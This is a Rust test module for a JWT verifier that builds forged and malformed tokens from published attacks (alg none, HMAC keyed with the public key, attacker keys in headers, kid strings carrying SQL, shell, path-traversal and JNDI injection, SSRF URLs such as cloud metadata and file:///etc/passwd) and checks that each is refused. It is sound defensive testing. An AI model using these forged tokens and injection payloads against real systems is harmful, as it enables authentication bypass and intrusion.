//! Published attacks on other verifiers, each with its clause or CVE.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use ring::hmac;
use serde_json::{Value, json};
use tokenring::{
    Algorithm, JsonError,
    VerifyError::{
        self, AlgorithmNotAccepted, BadSignature, ClaimType, EmptySegment, Encrypted, Expired,
        HeaderForbidden, HeaderJson, NotBase64url, PayloadJson, SecurityEvent, SegmentCount,
        TokenTypeNotAccepted, UnknownKey, WrongAudience, WrongIssuer,
    },
    testkit::{AUDIENCE, CLIENT_ID, ISSUER, TestKey},
};

use crate::{
    base::{MARKER, Token, base64url},
    case::{NOW, TokenCase},
};

pub fn cases() -> Vec<TokenCase> {
    [
        none(),
        hmac_with_public_key(),
        keys_in_the_header(),
        key_ids(),
        structure(),
        json_texts(),
        claims(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn token() -> Token {
    Token::for_algorithm(Algorithm::EdDSA)
}

/// A case whose token is refused. Its policy and its keys allow every algorithm.
fn refused(name: impl Into<String>, clause: &str, token: String, error: VerifyError) -> TokenCase {
    TokenCase::new(name, clause, token).keys("all keys").policy("all algorithms").refused(error)
}

fn quoted(text: &str) -> String {
    json!(text).to_string()
}

fn none() -> Vec<TokenCase> {
    let clause = "RFC 8725 section 3.2; CVE-2015-9235; CVE-2020-28042";
    let mut cases = vec![];
    for alg in ["none", "None", "NONE", "nOnE", "none ", " none", "none\u{0}", "ｎｏｎｅ"] {
        let token = token().header("alg", quoted(alg));
        let valid = token.mint();
        let name = alg.escape_debug();
        cases.push(refused(format!("alg \"{name}\", signed"), clause, valid, AlgorithmNotAccepted));
        let without = format!("{}.", token.signing_input());
        let error = EmptySegment { segment: "signature" };
        cases.push(refused(format!("alg \"{name}\", not signed"), clause, without, error));
    }
    let bare = token().header("alg", quoted("none")).signing_input();
    cases.push(refused("alg none, no second period", clause, bare, SegmentCount { found: 2 }));
    for alg in ["EdDSA\u{0}", " EdDSA", "EdDSA ", "eddsa", "EDDSA", "ES512", "ES256K", "RSA-OAEP"] {
        let token = token().header("alg", quoted(alg)).mint();
        let name = format!("alg \"{}\"", alg.escape_debug());
        let clause = "RFC 7515 section 4.1.1; RFC 8725 section 3.1";
        cases.push(refused(name, clause, token, AlgorithmNotAccepted));
    }
    cases
}

/// HMACs keyed with the public key, in each form in which a verifier may store it.
fn hmac_with_public_key() -> Vec<TokenCase> {
    let rsa = TestKey::for_algorithm(Algorithm::RS256);
    let jwk = rsa.jwk();
    let [n, e] = ["n", "e"].map(|name| decoded(&jwk[name]));
    let pkcs1 = der(0x30, &[integer(&n), integer(&e)].concat());
    let rsa_encryption = [0x30, 13, 6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 1, 1, 5, 0];
    let bits = der(3, &[&[0], pkcs1.as_slice()].concat());
    let spki = der(0x30, &[rsa_encryption.as_slice(), &bits].concat());
    let pem = |label: &str, der: &[u8]| {
        let base64 = STANDARD.encode(der);
        let lines: Vec<&str> =
            base64.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
        format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
    };
    let public_key = pem("PUBLIC KEY", &spki);
    let ed = TestKey::for_algorithm(Algorithm::EdDSA).jwk();
    let secrets: [(&str, &str, Vec<u8>); 12] = [
        ("nothing", "CVE-2026-44699", vec![]),
        ("the PEM key", "CVE-2016-10555; CVE-2022-29217", public_key.clone().into_bytes()),
        ("the PEM key without its last line feed", "CVE-2022-29217", {
            public_key.trim_end().as_bytes().to_vec()
        }),
        ("the PEM key with a space in front", "CVE-2026-34950", {
            format!(" {public_key}").into_bytes()
        }),
        ("the PKCS #1 PEM key", "CVE-2023-48223", pem("RSA PUBLIC KEY", &pkcs1).into_bytes()),
        ("the DER key", "CVE-2026-85394", spki),
        ("the PKCS #1 DER key", "CVE-2026-85394", pkcs1),
        ("the modulus", "CVE-2016-10555", n),
        ("the modulus in base64url", "CVE-2016-10555", jwk["n"].as_str().unwrap().into()),
        ("the JWK", "CVE-2026-48526", jwk.to_string().into_bytes()),
        ("the JWK Set", "CVE-2026-48526", json!({ "keys": [jwk] }).to_string().into_bytes()),
        ("the Ed25519 key", "CVE-2022-29217", decoded(&ed["x"])),
    ];
    let mut cases = vec![];
    for (what, cve, secret) in &secrets {
        let token = Token::of(&rsa).header("alg", quoted("HS256"));
        let secret = hmac::Key::new(hmac::HMAC_SHA256, secret);
        let tag = hmac::sign(&secret, token.signing_input().as_bytes());
        let name = format!("HS256 with {what} as the secret");
        let clause = format!("RFC 8725 section 2.1; {cve}");
        let token = token.with_signature(tag);
        cases.push(refused(name, &clause, token, AlgorithmNotAccepted));
    }
    // The same HMAC, but `alg` names the key's own algorithm.
    let token = Token::of(&rsa);
    let secret = hmac::Key::new(hmac::HMAC_SHA256, public_key.as_bytes());
    let tag = hmac::sign(&secret, token.signing_input().as_bytes());
    let token = token.with_signature(tag);
    let clause = "RFC 8725 section 2.1; CVE-2016-10555";
    cases.push(refused("HMAC called RS256", clause, token, BadSignature));
    for alg in ["HS384", "HS512", "hs256"] {
        let token = Token::of(&rsa).header("alg", quoted(alg));
        let secret = hmac::Key::new(hmac::HMAC_SHA384, public_key.as_bytes());
        let tag = hmac::sign(&secret, token.signing_input().as_bytes());
        let name = format!("alg {alg} with the PEM key as the secret");
        cases.push(refused(name, clause, token.with_signature(tag), AlgorithmNotAccepted));
    }
    cases
}

fn keys_in_the_header() -> Vec<TokenCase> {
    let mut cases = vec![];
    for algorithm in [Algorithm::RS256, Algorithm::ES256, Algorithm::EdDSA] {
        let attacker = TestKey::attacker_for(algorithm);
        let forged = Token::for_algorithm(algorithm).forged_by(&attacker);
        let alg = algorithm.name();
        let named = forged.clone().header("kid", quoted("attacker"));
        let jwk = attacker.jwk().to_string();
        let url = quoted("https://attacker.example/jwks.json");
        let clause = "RFC 8725 section 3.10; CVE-2018-0114; CVE-2026-27962";
        cases.extend([
            refused(
                format!("{alg}: the attacker's key in jwk"),
                clause,
                forged.clone().header("jwk", jwk.clone()).mint(),
                BadSignature,
            ),
            refused(
                format!("{alg}: the attacker's key in jwk, under its own kid"),
                clause,
                named.clone().header("jwk", jwk.clone()).mint(),
                UnknownKey,
            ),
            refused(
                format!("{alg}: the attacker's key in jwk, no kid"),
                clause,
                forged.clone().without_header("kid").header("jwk", jwk).mint(),
                BadSignature,
            ),
        ]);
        let clause = "RFC 8725 section 3.10";
        for parameter in ["jku", "x5u"] {
            let name = format!("{alg}: the attacker's URL in {parameter}");
            let token = forged.clone().header(parameter, url.clone()).mint();
            cases.push(refused(name, clause, token, BadSignature));
        }
        let name = format!("{alg}: the attacker's certificate in x5c");
        let token = forged.clone().header("x5c", r#"["MIIB"]"#).mint();
        cases.push(refused(name, clause, token, BadSignature));
    }
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        "data:application/json,{}",
        "https://issuer.example@attacker.example/",
    ] {
        let token = token().header("jku", quoted(url)).mint();
        let case =
            TokenCase::new(format!("jku {url}, and not fetched"), "RFC 8725 section 3.10", token);
        cases.push(case.keys("EdDSA").policy("EdDSA"));
    }
    cases
}

fn key_ids() -> Vec<TokenCase> {
    let clause = "RFC 8725 section 3.10; RFC 7515 section 4.1.4";
    let kids = [
        "' OR '1'='1",
        "x' UNION SELECT 'secret'; --",
        "../../../../dev/null",
        "..\\..\\windows\\win.ini",
        "/dev/null",
        "| id",
        "$(id)",
        "*)(uid=*",
        "x\r\nSet-Cookie: a=b",
        "__proto__",
        "constructor",
        "tokenring-test-key-eddsa ",
        " tokenring-test-key-eddsa",
        "tokenring-test-key-edds",
        "tokenring-test-key-eddsa\u{0}",
        "Tokenring-Test-Key-EdDSA",
        "tokenring-test-key-ｅddsa",
        "tokenring-test-key-*",
        "%74okenring-test-key-eddsa",
        "${jndi:ldap://attacker.example/a}",
        "<script>alert(1)</script>",
    ];
    let case = |kid: &&str| {
        let token = token().header("kid", quoted(kid)).mint();
        refused(format!("kid \"{}\"", kid.escape_debug()), clause, token, UnknownKey)
    };
    kids.iter().map(case).collect()
}

fn structure() -> Vec<TokenCase> {
    let good = token();
    let text = good.mint();
    let [h, p, s]: [&str; 3] = text.split('.').collect::<Vec<_>>().try_into().unwrap();
    let flattened = json!({ "protected": h, "payload": p, "signature": s }).to_string();
    let general = json!({ "payload": p, "signatures": [{ "protected": h, "signature": s }] });
    let compact = "RFC 7515 section 7.1";
    let polyglot = "RFC 7515 section 7.2: not the compact serialization; CVE-2026-96760";
    let jwe = "RFC 8725 section 3.3; CVE-2023-51774";
    let pbes2 = json!({
        "alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 2_147_483_647, "p2s": "AAAA"
    });
    let bomb = json!({ "alg": "dir", "enc": "A256GCM", "zip": "DEF" });
    let header = |header: &Value| base64url(header.to_string());
    let lenient = "RFC 7515 section 2; RFC 4648 section 3.2";
    let of = |segment| NotBase64url { segment };
    let spare = with_spare_bits(s);
    let mut cases = vec![
        refused("10,000 periods", "CVE-2025-30204; CVE-2025-27144", ".".repeat(10_000), {
            SegmentCount { found: 10_001 }
        }),
        refused("JSON serialization, flattened", polyglot, flattened, SegmentCount { found: 1 }),
        refused("JSON serialization, general", polyglot, general.to_string(), {
            SegmentCount { found: 1 }
        }),
        refused(
            "JSON serialization without a signature",
            polyglot,
            json!({ "payload": p }).to_string(),
            SegmentCount { found: 1 },
        ),
        refused(
            "a token in a member of JSON, split at its periods",
            polyglot,
            format!(r#"{{"protected":"{h}","payload":".{p}.","signature":"{s}"}}"#),
            of("header"),
        ),
        refused(
            "JWE of five segments",
            jwe,
            format!("{}.{p}.{s}.{p}.{s}", header(&bomb)),
            Encrypted,
        ),
        refused(
            "PBES2 with many rounds, five segments",
            "CVE-2022-36083; CVE-2023-52428",
            format!("{}.{p}.{s}.{p}.{s}", header(&pbes2)),
            Encrypted,
        ),
        refused(
            "PBES2 with many rounds, three segments",
            "CVE-2022-36083; CVE-2023-51775",
            format!("{}.{p}.{s}", header(&pbes2)),
            HeaderForbidden { parameter: "enc" },
        ),
        refused(
            "zip DEF, three segments",
            "CVE-2024-29371; CVE-2024-28176",
            good.clone().header("zip", r#""DEF""#).mint(),
            HeaderForbidden { parameter: "zip" },
        )
        .strict("a parameter of JWE, which RFC 7515 would ignore"),
        refused(
            "RFC 7797: b64 false, payload as it is",
            "RFC 7797 section 6",
            {
                let header = base64url(
                    r#"{"alg":"EdDSA","b64":false,"crit":["b64"],"kid":"tokenring-test-key-eddsa"}"#,
                );
                let input = format!("{header}.MARKER");
                let key = TestKey::for_algorithm(Algorithm::EdDSA);
                format!("{input}.{}", base64url(key.sign(input.as_bytes())))
            },
            HeaderForbidden { parameter: "b64" },
        ),
        refused(
            "detached payload, EdDSA",
            "RFC 7515 appendix F",
            format!("{h}..{s}"),
            BadSignature,
        ),
        refused(
            "EdDSA signature with spare bits set",
            "RFC 4648 section 3.5",
            format!("{h}.{p}.{spare}"),
            of("signature"),
        ),
        refused("EdDSA token twice, with a comma", compact, format!("{text},{text}"), {
            Encrypted
        }),
        refused("EdDSA token as a cookie", compact, format!("token={text}"), of("header")),
        refused("EdDSA token in angle brackets", compact, format!("<{text}>"), of("header")),
        refused("EdDSA token as a data URL", compact, format!("data:,{text}"), of("header")),
        refused("EdDSA token and a fragment", compact, format!("{text}#x"), of("signature")),
        refused("EdDSA token and a tilde, as SD-JWT", "RFC 9901 section 4", format!("{text}~"), {
            of("signature")
        }),
    ];
    for (what, junk) in [
        ("a space", " "),
        ("a tab", "\t"),
        ("a line feed", "\n"),
        ("CR LF", "\r\n"),
        ("a NUL", "\0"),
        ("one =", "="),
        ("two =", "=="),
        ("a byte order mark", "\u{feff}"),
        ("a soft hyphen", "\u{ad}"),
        ("an asterisk", "*"),
        ("a plus sign", "+"),
        ("a slash", "/"),
    ] {
        let middle = |segment: &str| format!("{}{junk}{}", &segment[..8], &segment[8..]);
        // The signature covers this very text: a lenient decoder would accept it.
        let input = format!("{h}.{}", middle(p));
        let key = TestKey::for_algorithm(Algorithm::EdDSA);
        let signature = base64url(key.sign(input.as_bytes()));
        cases.extend(
            [
                ("in the EdDSA signature", format!("{h}.{p}.{}", middle(s)), "signature"),
                ("behind the EdDSA token", format!("{text}{junk}"), "signature"),
                ("in front of the EdDSA token", format!("{junk}{text}"), "header"),
                ("in the EdDSA payload, signed so", format!("{input}.{signature}"), "payload"),
            ]
            .map(|(place, token, segment)| {
                refused(format!("{what} {place}"), lenient, token, of(segment))
            }),
        );
    }
    cases
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn json_texts() -> Vec<TokenCase> {
    let key = TestKey::for_algorithm(Algorithm::EdDSA);
    let good = token();
    let input = good.signing_input();
    let (h, p) = input.split_once('.').unwrap();
    let [header, payload] = [h, p].map(decoded_text);
    let signed = |header: &[u8], payload: &[u8]| {
        let input = format!("{}.{}", base64url(header), base64url(payload));
        format!("{input}.{}", base64url(key.sign(input.as_bytes())))
    };
    /// The fault in words, the clause, the faulty text, the error.
    type Row = (&'static str, &'static str, fn(&str) -> Vec<u8>, JsonError);
    let syntax = |what, clause, change| -> Row { (what, clause, change, JsonError::Syntax) };
    let (parse, claims) = (
        "RFC 7515 section 5.2 step 3",
        "RFC 7515 section 5.2 step 3; RFC 7519 section 7.2 step 10",
    );
    let texts: [Row; 17] = [
        syntax(
            "a byte order mark in front",
            "RFC 8259 section 8.1; RFC 7515 section 5.2 step 3",
            |text| format!("\u{feff}{text}").into(),
        ),
        syntax("UTF-16", "RFC 8259 section 8.1", utf16),
        syntax("a second object behind", parse, |text| format!("{text}{{}}").into()),
        syntax("a NUL behind", parse, |text| format!("{text}\0").into()),
        syntax("a comment", "RFC 8259 section 2", |text| text.replacen('{', "{/**/", 1).into()),
        syntax("a comma too many", "RFC 8259 section 4", |text| text.replace('}', ",}").into()),
        syntax("single quotation marks", "RFC 8259 section 7", |text| {
            text.replace('"', "'").into()
        }),
        syntax("a form feed between members", "RFC 8259 section 2", |text| {
            text.replace(',', ",\u{c}").into()
        }),
        syntax("a no-break space between members", "RFC 8259 section 2", |text| {
            text.replace(',', ",\u{a0}").into()
        }),
        syntax("NaN in a member of no use", "RFC 8259 section 6", |text| {
            text.replacen('{', r#"{"y":NaN,"#, 1).into()
        }),
        syntax("a lone surrogate in a member of no use", "RFC 7493 section 2.1", |text| {
            text.replacen('{', r#"{"y":"\ud800","#, 1).into()
        }),
        syntax("a wrong escape in a member of no use", "RFC 8259 section 7", |text| {
            text.replacen('{', r#"{"y":"\x41","#, 1).into()
        }),
        (
            "an overlong encoding",
            "RFC 3629 section 3",
            |text| [b"{\"y\":\"\xc0\xaf\",".as_slice(), &text.as_bytes()[1..]].concat(),
            JsonError::NotUtf8,
        ),
        (
            "a surrogate in UTF-8",
            "RFC 3629 section 3",
            |text| [b"{\"y\":\"\xed\xa0\x80\",".as_slice(), &text.as_bytes()[1..]].concat(),
            JsonError::NotUtf8,
        ),
        ("an array around it", claims, |text| format!("[{text}]").into(), JsonError::NotObject),
        ("a string of it", claims, |text| quoted(text).into(), JsonError::NotObject),
        (
            "a member twice",
            "RFC 7515 section 4; RFC 7519 section 4",
            |text| text.replacen('{', r#"{"y":1,"\u0079":1,"#, 1).into(),
            JsonError::DuplicateMember,
        ),
    ];
    let mut cases = vec![];
    for (what, clause, change, error) in &texts {
        let of_header = signed(&change(&header), payload.as_bytes());
        let of_payload = signed(header.as_bytes(), &change(&payload));
        for (part, token, error) in [
            ("header", of_header, HeaderJson(*error)),
            ("payload", of_payload, PayloadJson(*error)),
        ] {
            let case = refused(format!("EdDSA {part}: {what}"), clause, token, error);
            cases.push(match *what {
                "a member twice" => case.strict("the last one could be taken"),
                "a lone surrogate in a member of no use" => case.strict("RFC 8259 lets it pass"),
                _ => case,
            });
        }
    }
    cases
}

fn claims() -> Vec<TokenCase> {
    let case =
        |name: &str, clause: &str, token: Token, error| refused(name, clause, token.mint(), error);
    let crit = |value: &str| token().header("crit", value).header("exp", "1");
    let forbidden = HeaderForbidden { parameter: "crit" };
    let unknown = "RFC 7515 section 4.1.11; CVE-2026-32597; CVE-2025-59420; CVE-2026-35042";
    let aud = "RFC 7519 section 4.1.3; CVE-2020-26160; CVE-2025-62610";
    let audience = |value: Value| token().claim("aud", value.to_string());
    let time = "RFC 7519 section 4.1.4; CVE-2026-44459";
    let exp = |value: &str| token().claim("exp", value);
    let iss = |value: &str| token().claim("iss", quoted(value));
    vec![
        case("crit names an unknown extension", unknown, crit(r#"["MARKER"]"#), forbidden),
        case("crit names a registered parameter", unknown, crit(r#"["alg"]"#), forbidden),
        case("crit names a parameter that is absent", unknown, crit(r#"["x"]"#), forbidden),
        case("crit names one parameter twice", unknown, crit(r#"["exp","exp"]"#), forbidden),
        case(
            "crit with an escape, EdDSA",
            unknown,
            token().header(r"\u0063rit", r#"["MARKER"]"#),
            forbidden,
        ),
        case("aud: no element", aud, audience(json!([])), ClaimType { claim: "aud" }),
        case("aud: an empty element", aud, audience(json!([""])), WrongAudience),
        case("aud: a part of the audience", aud, audience(json!("https://api")), WrongAudience),
        case("aud: the audience and more", aud, audience(json!(format!("{AUDIENCE}x"))), {
            WrongAudience
        }),
        case("aud: several, comma-separated", aud, audience(json!(format!("x,{AUDIENCE}"))), {
            WrongAudience
        }),
        case("aud: the audience as a name", aud, audience(json!({ AUDIENCE: true })), {
            ClaimType { claim: "aud" }
        }),
        case(
            "an ID token: aud is the client",
            "RFC 8725 section 3.12",
            audience(json!(CLIENT_ID)).claim("nonce", r#""x""#),
            WrongAudience,
        ),
        case(
            "a logout token",
            "OpenID Connect Back-Channel Logout section 2.4",
            token().header("typ", r#""logout+jwt""#).claim("events", "{}"),
            TokenTypeNotAccepted,
        ),
        case(
            "a logout token without its typ",
            "OpenID Connect Back-Channel Logout section 2.4; RFC 8417 section 2.2",
            token().claim("events", r#"{"http://schemas.openid.net/event/backchannel-logout":{}}"#),
            SecurityEvent,
        ),
        case(
            "events: null",
            "RFC 8417 section 2.2",
            token().claim("events", "null"),
            SecurityEvent,
        ),
        case(
            "a DPoP proof",
            "RFC 9449 section 4.2",
            token().header("typ", r#""dpop+jwt""#).claim("htm", r#""GET""#),
            TokenTypeNotAccepted,
        ),
        case(
            "another tenant of the same issuer",
            "RFC 8725 section 3.8",
            iss("https://other.example.auth0.com/"),
            WrongIssuer,
        ),
        case(
            "iss and a slash more",
            "RFC 8414 section 3.3",
            iss(&format!("{ISSUER}/")),
            WrongIssuer,
        ),
        case(
            "iss with a NUL behind",
            "RFC 7519 section 4.1.1",
            iss(&format!("{ISSUER}\0")),
            WrongIssuer,
        ),
        case(
            "iss in http",
            "RFC 7519 section 4.1.1",
            iss(&ISSUER.replace("https", "http")),
            WrongIssuer,
        ),
        case("exp in a string", time, exp(r#""9999999999""#), ClaimType { claim: "exp" }),
        case("exp in an object", time, exp(r#"{"$numberLong":"9999999999"}"#), {
            ClaimType { claim: "exp" }
        }),
        case("exp is a date", time, exp(r#""2099-01-01T00:00:00Z""#), ClaimType { claim: "exp" }),
        case("exp a year ago", time, exp(&(NOW - 31_536_000).to_string()), {
            Expired { exp: NOW - 31_536_000, now: NOW }
        }),
        case(
            "signed by another issuer's key, all else right",
            "RFC 8725 section 3.8",
            token().forged_by(&TestKey::attacker_for(Algorithm::EdDSA)),
            BadSignature,
        ),
        case(
            "claims refused as well as the signature: no oracle",
            "RFC 7519 section 7.2",
            {
                let forged = token().forged_by(&TestKey::attacker_for(Algorithm::EdDSA));
                forged.claim("iss", quoted(MARKER)).claim("exp", "0")
            },
            BadSignature,
        ),
    ]
}

fn with_spare_bits(segment: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (rest, last) = segment.split_at(segment.len() - 1);
    let at = ALPHABET.iter().position(|letter| last.as_bytes() == [*letter]).unwrap();
    format!("{rest}{}", char::from(ALPHABET[at + 1]))
}

fn decoded(member: &Value) -> Vec<u8> {
    let engine = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    engine.decode(member.as_str().unwrap()).unwrap()
}

fn decoded_text(segment: &str) -> String {
    String::from_utf8(decoded(&segment.into())).unwrap()
}

/// An ASN.1 value of fewer than 65536 bytes.
fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = match content.len() {
        short @ ..0x80 => vec![u8::try_from(short).unwrap()],
        long @ ..0x100 => vec![0x81, u8::try_from(long).unwrap()],
        longer => [&[0x82], &u16::try_from(longer).unwrap().to_be_bytes()[..]].concat(),
    };
    [vec![tag], length, content.to_vec()].concat()
}

/// A positive integer.
fn integer(number: &[u8]) -> Vec<u8> {
    match number[0] & 0x80 {
        0 => der(2, number),
        _ => der(2, &[&[0], number].concat()),
    }
}
